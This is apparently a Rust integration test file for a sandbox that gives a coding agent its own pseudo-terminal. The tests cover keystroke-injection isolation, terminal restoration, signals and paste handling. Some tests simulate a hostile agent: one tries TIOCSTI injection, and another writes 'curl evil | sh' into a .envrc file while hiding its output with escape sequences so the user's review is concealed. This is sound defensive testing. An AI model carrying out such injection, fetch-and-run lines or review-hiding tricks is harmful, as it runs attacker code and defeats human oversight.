//! On a terminal the agent gets its own pseudo-terminal: keystroke injection cannot reach
//! the invoking terminal, and the relay behaves like a terminal (size, Ctrl-C, restore).

mod common;

use std::io::{Read, Write};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use common::*;
use nix::pty::{OpenptyResult, Winsize, openpty};
use nix::sys::termios::tcgetattr;

struct Session {
    child: Child,
    master: std::fs::File,
    slave: OwnedFd,
    /// The terminal's modes before the activator started.
    initial: nix::sys::termios::Termios,
}

/// Start the activator with a fresh pseudo-terminal as its standard descriptors.
fn start(f: &Fixture, user: TestUser, ws: &std::path::Path, script: &str) -> Session {
    let size = Winsize {
        ws_row: 33,
        ws_col: 111,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    let OpenptyResult { master, slave } = openpty(Some(&size), None).unwrap();
    let initial = tcgetattr(slave.as_fd()).unwrap();
    let child = f
        .command(Some(user))
        .env("TERM", "xterm")
        .args(["enter", "--no-network", "--config"])
        .arg(&f.config)
        .arg(ws)
        .args(["--", "/bin/sh", "-c", script])
        .stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::from(slave.try_clone().unwrap()))
        .spawn()
        .unwrap();
    Session {
        child,
        master: std::fs::File::from(master),
        slave,
        initial,
    }
}

/// Read the terminal until `needle` shows up or the session ends.
fn read_until(master: &mut std::fs::File, out: &mut String, needle: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut buf = [0u8; 4096];
    while !out.contains(needle) && Instant::now() < deadline {
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.push_str(&String::from_utf8_lossy(&buf[..n])),
        }
    }
}

/// Read the terminal until the activator has exited and nothing more is buffered.
fn finish(s: &mut Session) -> (String, i32) {
    let flags = nix::fcntl::fcntl(s.master.as_fd(), nix::fcntl::FcntlArg::F_GETFL).unwrap();
    let nonblocking = nix::fcntl::OFlag::from_bits_truncate(flags) | nix::fcntl::OFlag::O_NONBLOCK;
    nix::fcntl::fcntl(s.master.as_fd(), nix::fcntl::FcntlArg::F_SETFL(nonblocking)).unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut out = String::new();
    let mut buf = [0u8; 4096];
    let mut status = None;
    loop {
        match s.master.read(&mut buf) {
            Ok(n) if n > 0 => {
                out.push_str(&String::from_utf8_lossy(&buf[..n]));
                continue;
            }
            _ if status.is_some() => break,
            _ => {}
        }
        status = s.child.try_wait().unwrap();
        assert!(Instant::now() < deadline, "the session did not end:\n{out}");
        if status.is_none() {
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    (out, status.unwrap().code().unwrap_or(-1))
}

#[test]
fn tiocsti_cannot_inject_into_the_invoking_terminal() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let script = r#"
python3 - <<'PY'
import fcntl, os, termios
targets = [("fd1", 1), ("fd2", 2), ("dev-tty", os.open("/dev/tty", os.O_RDWR))]
for name, fd in targets:
    try:
        for c in b"id\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        print(name, "INJECTED")
    except OSError as e:
        print(name, "errno", e.errno)
print("tty", os.ttyname(1))
PY
"#;
    let mut s = start(&f, a, &ws, script);
    let slave = s.slave.try_clone().unwrap();
    let before = s.initial.clone();
    let (out, code) = finish(&mut s);
    assert_eq!(code, 0, "{out}");
    for name in ["fd1", "fd2", "dev-tty"] {
        assert!(out.contains(&format!("{name} errno 1")), "{name}: {out}");
    }
    assert!(
        out.contains("tty /dev/pts/0"),
        "the sandbox has its own terminal: {out}"
    );
    // Nothing is waiting to be read on the invoking terminal.
    let mut pending: libc::c_int = 0;
    // SAFETY: FIONREAD writes one int; the descriptor is open.
    unsafe { libc::ioctl(slave.as_raw_fd(), libc::FIONREAD, &mut pending) };
    assert_eq!(pending, 0);
    // And the terminal is back in the mode it was in.
    let after = tcgetattr(slave.as_fd()).unwrap();
    assert_eq!(before.local_flags, after.local_flags);
    assert_eq!(before.input_flags, after.input_flags);
}

#[test]
fn window_size_and_ctrl_c_reach_the_sandbox_terminal() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let script = "trap 'echo got-interrupt; exit 3' INT; stty size; echo ready; \
                  while true; do sleep 0.05; done";
    let mut s = start(&f, a, &ws, script);
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "ready");
    assert!(out.contains("33 111"), "{out}");
    // Ctrl-C typed on the invoking terminal, relayed as a byte, turned into SIGINT by the
    // sandbox terminal's line discipline for its foreground process group.
    s.master.write_all(b"\x03").unwrap();
    let (rest, code) = finish(&mut s);
    assert!(rest.contains("got-interrupt"), "{out}{rest}");
    assert_eq!(code, 3);
}

/// Wait for the activator to exit within `within`, reading and dropping what it relays when
/// `read` is set; SIGKILL it and fail when it does not.
fn exits_within(s: &mut Session, within: Duration, read: bool) -> i32 {
    set_nonblocking(&s.master);
    let deadline = Instant::now() + within;
    let mut buf = [0u8; 4096];
    loop {
        if let Some(status) = s.child.try_wait().unwrap() {
            return status.code().unwrap_or(-1);
        }
        if Instant::now() >= deadline {
            let _ = s.child.kill();
            let _ = s.child.wait();
            panic!("the activator did not exit within {within:?} of SIGTERM");
        }
        if read {
            while matches!(s.master.read(&mut buf), Ok(n) if n > 0) {}
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn set_nonblocking(fd: &impl AsFd) {
    use nix::fcntl::{FcntlArg, OFlag, fcntl};
    let flags = OFlag::from_bits_truncate(fcntl(fd.as_fd(), FcntlArg::F_GETFL).unwrap());
    fcntl(fd.as_fd(), FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK)).unwrap();
}

fn sigterm(child: &Child) {
    use nix::sys::signal::{Signal, kill};
    kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        Signal::SIGTERM,
    )
    .unwrap();
}

#[test]
fn display_modes_the_agent_left_set_are_undone_before_the_exit_report() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    // Concealed text on the alternate screen would hide the review of the new .envrc.
    let script =
        r"printf 'agent-done\033[8m\033[?1049h'; echo 'curl evil | sh' > /workspace/.envrc";
    let mut s = start(&f, a, &ws, script);
    let (out, code) = finish(&mut s);
    assert_eq!(code, 0, "{out:?}");
    let left = "agent-done\x1b[8m\x1b[?1049h";
    let agent = out.find(left).unwrap_or_else(|| panic!("{out:?}")) + left.len();
    let report = out
        .find("claude-chroot: review these")
        .unwrap_or_else(|| panic!("no review in {out:?}"));
    assert!(agent <= report, "{out:?}");
    let between = &out[agent..report];
    for (what, seq) in [
        ("attributes reset", "\x1b[0m"),
        ("normal screen", "\x1b[?1049l"),
        ("cursor shown", "\x1b[?25h"),
        ("mouse reporting off", "\x1b[?1000l"),
        ("button-event mouse reporting off", "\x1b[?1002l"),
        ("any-event mouse reporting off", "\x1b[?1003l"),
        ("SGR mouse reporting off", "\x1b[?1006l"),
        ("bracketed paste off", "\x1b[?2004l"),
    ] {
        assert!(between.contains(seq), "{what}: {between:?}");
    }
    // Leaving the alternate screen restores the attributes saved on entering it.
    let left_alternate = between.find("\x1b[?1049l").unwrap();
    assert!(
        between[left_alternate..].contains("\x1b[0m"),
        "attributes reset after leaving the alternate screen: {between:?}"
    );
    // Leaving restores the saved cursor even on the normal screen: save it first.
    assert!(
        between[..left_alternate].ends_with("\x1b7"),
        "cursor saved before leaving the alternate screen: {between:?}"
    );
    assert!(
        !between.contains("\x1bc"),
        "no full reset, which clears the screen: {between:?}"
    );
}

#[test]
fn input_the_agent_does_not_read_cannot_keep_the_activator_from_sigterm() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let mut s = start(&f, a, &ws, "stty raw -echo; echo ready; sleep 30");
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "ready");
    assert!(out.contains("ready"), "{out}");
    // A paste far larger than the sandbox terminal's input buffer, which nothing reads.
    set_nonblocking(&s.master);
    let paste = vec![b'x'; 64 << 10];
    let mut written = 0;
    let deadline = Instant::now() + Duration::from_secs(3);
    while written < paste.len() && Instant::now() < deadline {
        match s.master.write(&paste[written..]) {
            Ok(n) => written += n,
            Err(_) => std::thread::sleep(Duration::from_millis(10)),
        }
    }
    // Let the activator take what it will of the paste (all of it when it does not block).
    std::thread::sleep(Duration::from_millis(300));
    sigterm(&s.child);
    let code = exits_within(&mut s, Duration::from_secs(4), true);
    assert_eq!(code, 128 + 15, "{written} bytes pasted");
    assert!(f.sessions().is_empty());
}

#[test]
fn output_the_user_does_not_read_cannot_keep_the_activator_from_sigterm() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let mut s = start(&f, a, &ws, "echo ready; yes");
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "ready");
    assert!(out.contains("ready"), "{out}");
    // Stop reading: the invoking terminal's buffer fills with the agent's output.
    std::thread::sleep(Duration::from_secs(1));
    sigterm(&s.child);
    // The activator gives the last output two seconds (FLUSH in src/terminal.rs) to go out.
    let code = exits_within(&mut s, Duration::from_secs(4), false);
    assert_eq!(code, 128 + 15);
    assert!(f.sessions().is_empty());
}

#[test]
fn a_window_size_change_reaches_the_sandbox_terminal() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let script = "trap 'stty size' WINCH; echo ready; while true; do sleep 0.05; done";
    let mut s = start(&f, a, &ws, script);
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "ready");
    let size = Winsize {
        ws_row: 44,
        ws_col: 132,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: TIOCSWINSZ reads one winsize; the descriptor is the test's terminal.
    let set = unsafe { libc::ioctl(s.slave.as_raw_fd(), libc::TIOCSWINSZ, &size) };
    assert_eq!(set, 0);
    // The activator has no controlling terminal here: signal it as the kernel would.
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(s.child.id() as i32),
        nix::sys::signal::Signal::SIGWINCH,
    )
    .unwrap();
    read_until(&mut s.master, &mut out, "44 132");
    assert!(out.contains("44 132"), "{out}");
    s.master.write_all(b"\x03").unwrap();
    let (rest, code) = finish(&mut s);
    assert_eq!(code, 128 + 2, "{out}{rest}");
}

#[test]
fn a_paste_larger_than_the_relay_buffers_reaches_the_agent_whole_and_in_order() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    // The agent starts reading only after a second: every buffer on the way fills first.
    let paste: String = (0..40_000).map(|i| format!("{i:07}\n")).collect();
    let script = format!(
        "stty raw -echo; echo ready; sleep 1; head -c {} > /workspace/pasted; echo got-it",
        paste.len()
    );
    let mut s = start(&f, a, &ws, &script);
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "ready");
    set_nonblocking(&s.master);
    let mut written = 0;
    let deadline = Instant::now() + Duration::from_secs(20);
    while written < paste.len() {
        assert!(Instant::now() < deadline, "only {written} bytes taken");
        match s.master.write(&paste.as_bytes()[written..]) {
            Ok(n) => written += n,
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    let (rest, code) = finish(&mut s);
    assert_eq!(code, 0, "{out}{rest}");
    assert!(rest.contains("got-it"), "{rest}");
    let got = std::fs::read_to_string(ws.join("pasted")).unwrap();
    assert!(
        got == paste,
        "{} of {} bytes arrived",
        got.len(),
        paste.len()
    );
}

#[test]
fn output_larger_than_the_relay_buffers_reaches_the_user_whole_and_in_order() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let mut s = start(&f, a, &ws, "seq 1 60000; echo end-of-output");
    let (out, code) = finish(&mut s);
    assert_eq!(code, 0);
    let first = out.find("1\r\n2\r\n").expect("no output");
    let end = out.find("end-of-output").expect("output cut short");
    let expected: String = (1..=60_000).map(|i| format!("{i}\r\n")).collect();
    assert!(out[first..end] == expected, "{} bytes", end - first);
}

/// Write `input` to the terminal, then read until `needle` shows up; what was read.
fn type_and_wait(s: &mut Session, input: &[u8], needle: &str) -> String {
    s.master.write_all(input).unwrap();
    let mut out = String::new();
    read_until(&mut s.master, &mut out, needle);
    assert!(
        out.contains(needle),
        "no {needle:?} after {input:?}:\n{out}"
    );
    out
}

#[test]
fn job_control_works_on_the_sandbox_terminal() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let mut s = start(
        &f,
        a,
        &ws,
        "export PS1='prompt> '; exec bash --norc --noprofile -i",
    );
    let mut out = String::new();
    read_until(&mut s.master, &mut out, "prompt> ");
    // A job that says it runs, every 100 ms; the echo of the typed line never holds the
    // word itself, so seeing it means the job runs, in the foreground.
    let job = b"sh -c 'while :; do printf \"al%sve\\n\" i; sleep 0.1; done'\n";
    type_and_wait(&mut s, job, "alive");
    type_and_wait(&mut s, b"\x1a", "Stopped");
    type_and_wait(&mut s, b"jobs\n", "prompt> ");
    // Back to the foreground, then interrupted there.
    type_and_wait(&mut s, b"fg\n", "alive");
    type_and_wait(&mut s, b"\x03", "prompt> ");
    type_and_wait(&mut s, b"echo status-$?\n", "status-130");
    // A background job runs while the shell takes input.
    type_and_wait(&mut s, b"(sleep 0.2; echo bg-done) &\n", "bg-done");
    s.master.write_all(b"exit\n").unwrap();
    let (_, code) = finish(&mut s);
    assert_eq!(code, 0);
}
